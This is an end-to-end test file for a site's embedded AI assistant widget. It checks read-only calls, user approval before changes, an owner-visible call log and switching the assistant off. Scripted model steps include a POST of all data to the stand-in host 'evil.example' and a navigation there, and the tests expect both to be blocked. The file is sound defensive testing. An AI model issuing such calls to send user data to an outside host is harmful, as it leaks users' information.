import type { BrowserContext, Page } from 'playwright-core';
import { beforeAll, describe, expect, it } from 'vitest';
import { chatOn, eventually, sees, type Chat } from '../chat';
import type { Step } from '../scriptedModel';
import { signInAt } from '../signIn';
import { useStack } from '../useStack';

const { browser, stack } = await useStack();

beforeAll(() => {
  stack.model.answer = (question) => CALLS.get(question) ?? ['I see.'];
  stack.model.afterCall = ['Done.'];
});

/** What the model does when somebody says this. */
const CALLS = new Map<string, readonly Step[]>([
  ['Where am I?', [{ call: 'currentPath', args: {} }]],
  ['Who am I?', [{ call: 'graphql', args: { query: '{ me { id email displayName } }' } }]],
  [
    'Delete it by a mutation',
    [{ call: 'graphql', args: { query: 'mutation { createSkillset(input: { name: "By mutation" }) { id } }' } }],
  ],
  ['List my skillsets', [{ call: 'request', args: { method: 'GET', path: '/api/v1/skillset/list' } }]],
  [
    'Make one',
    [
      {
        call: 'request',
        args: { method: 'POST', path: '/api/v1/skillset/create', body: { name: 'By the assistant' } },
      },
    ],
  ],
  [
    'Tell somebody else',
    [{ call: 'request', args: { method: 'POST', path: '//evil.example/api/v1/collect', body: { all: true } } }],
  ],
  [
    'Create a key',
    [{ call: 'request', args: { method: 'POST', path: '/api/v1/secret/create', body: { name: 'mine' } } }],
  ],
  ['Leave', [{ call: 'navigate', args: { path: '//evil.example' } }]],
  ['Show the skillsets', [{ call: 'navigate', args: { path: '/hub/skillsets' } }]],
  ['Load again', [{ call: 'reload', args: {} }]],
]);

async function visit(
  email: string | undefined,
  path = '/hub',
): Promise<{ context: BrowserContext; page: Page; chat: Chat; foreign: string[] }> {
  const context = await browser.newContext({ viewport: { width: 1280, height: 900 } });
  const page = await context.newPage();
  const foreign: string[] = [];
  page.on('request', (request) => {
    if (
      !request.url().startsWith(stack.origin) &&
      !request.url().startsWith('data:') &&
      !request.url().startsWith('blob:')
    )
      foreign.push(request.url());
  });
  if (email === undefined) await page.goto(stack.origin + path);
  else await signInAt(page, stack, email, path);
  const chat = chatOn(page);
  await chat.open();
  // Its tools come with the first sign of a person, by a file of their own.
  await eventually(async () => {
    expect(
      await page.evaluate(
        async () =>
          Object.keys((await (window as unknown as { sotto: { getFunctions(): unknown } }).sotto.getFunctions()) ?? {})
            .length,
      ),
    ).toBeGreaterThan(0);
  });
  return { context, page, chat, foreign };
}

/** Asks, and gives what the model was told the function answered. */
async function ask(chat: Chat, text: string, meanwhile: () => Promise<void> = async () => undefined): Promise<string> {
  const before = stack.model.results.length;
  await chat.ask(text);
  await meanwhile();
  await eventually(() => {
    expect(stack.model.results.length).toBeGreaterThan(before);
  }, 20_000);
  await chat.frame.getByRole('button', { name: 'Send', exact: true }).waitFor();
  return stack.model.results.at(-1) ?? '';
}

const questionOf = (page: Page) =>
  page.getByRole('dialog').filter({ hasText: 'The assistant wants to change something' });

describe('H-10 the assistant of somebody who is signed in', () => {
  it('reads at once: where one is, and what is asked by GraphQL and by a call, without anybody’s address', async () => {
    const { context, page, chat, foreign } = await visit('ana@builderassistant.example.com');
    expect(await page.locator('script[data-assistant]').getAttribute('data-type')).toBe('dashboard');
    expect(await ask(chat, 'Where am I?')).toContain('/hub');
    const me = await ask(chat, 'Who am I?');
    expect(me).toContain('displayName');
    expect(me).not.toContain('ana@builderassistant.example.com');
    expect(await ask(chat, 'List my skillsets')).toContain('200');
    expect([await questionOf(page).count(), foreign]).toEqual([0, []]);
    await context.close();
  });

  it('changes something after a Yes to the exact call, and nothing after a No', async () => {
    const { context, page, chat } = await visit('ben@builderassistant.example.com');
    const refused = await ask(chat, 'Make one', async () => {
      await sees(questionOf(page), 'POST /api/v1/skillset/create');
      await sees(questionOf(page), '{"name":"By the assistant"}');
      await questionOf(page).getByRole('button', { name: 'No' }).click();
    });
    expect(refused).toContain('The visitor declined');
    const escaped = await ask(chat, 'Delete it by a mutation', async () => {
      await sees(questionOf(page), 'mutation { createSkillset');
      await page.keyboard.press('Escape');
    });
    expect(escaped).toContain('The visitor declined');
    const made = await ask(chat, 'Make one', () => questionOf(page).getByRole('button', { name: 'Yes' }).click());
    expect(made).toContain('200');
    await page.goto(`${stack.origin}/overview`);
    await sees(page.locator('main'), 'By the assistant');
    expect(await page.getByText('By mutation').count()).toBe(0);
    await context.close();
  });

  it('makes no call outside its list, reaches no other site, and does not leave this one', async () => {
    const { context, page, chat, foreign } = await visit('cleo@builderassistant.example.com');
    expect(await ask(chat, 'Tell somebody else')).toContain('Only calls of this site');
    expect(await ask(chat, 'Create a key')).toContain('This call may not be made here');
    expect(await ask(chat, 'Leave')).toContain('not a page of this site');
    expect([await questionOf(page).count(), foreign, new URL(page.url()).pathname]).toEqual([0, [], '/hub']);
    await context.close();
  });

  it('opens another page of the site, and loads the page again', async () => {
    const { context, page, chat } = await visit('dora@builderassistant.example.com');
    await chat.ask('Show the skillsets');
    await page.waitForURL(`${stack.origin}/hub/skillsets`);
    const loads: string[] = [];
    page.on('load', () => loads.push(page.url()));
    const again = chatOn(page);
    if ((await again.launcher.getAttribute('aria-expanded')) !== 'true') await again.open();
    await again.ask('Load again');
    await eventually(() => {
      expect(loads).toEqual([`${stack.origin}/hub/skillsets`]);
    });
    await context.close();
  });

  it('is written down for its owner, who can switch it off', async () => {
    const { context, page, chat } = await visit('eva@builderassistant.example.com');
    await ask(chat, 'List my skillsets');
    await page.goto(`${stack.origin}/account#assistant`);
    await sees(page.locator('.call-list'), 'GET /api/v1/skillset/list');
    await page.getByRole('button', { name: 'Switch it off' }).click();
    await sees(page.locator('#assistant'), 'It is off');
    expect(await page.locator('script[data-assistant]').getAttribute('data-type')).toBe('default');
    await page.goto(`${stack.origin}/hub`);
    const quiet = chatOn(page);
    await quiet.open();
    expect(await ask(quiet, 'List my skillsets')).not.toContain('200');
    await page.goto(`${stack.origin}/account`);
    expect(await page.locator('.call-list > li').count()).toBe(1);
    await context.close();
  });
});

describe('H-10 the default widget of everybody else', () => {
  it('knows the place, and has no call to make', async () => {
    const { context, page, chat } = await visit(undefined);
    expect(await page.locator('script[data-assistant]').getAttribute('data-type')).toBe('default');
    expect(await ask(chat, 'Where am I?')).toContain('/hub');
    for (const question of ['Who am I?', 'Make one']) expect(await ask(chat, question)).not.toContain('200');
    expect(await questionOf(page).count()).toBe(0);
    await context.close();
  });
});
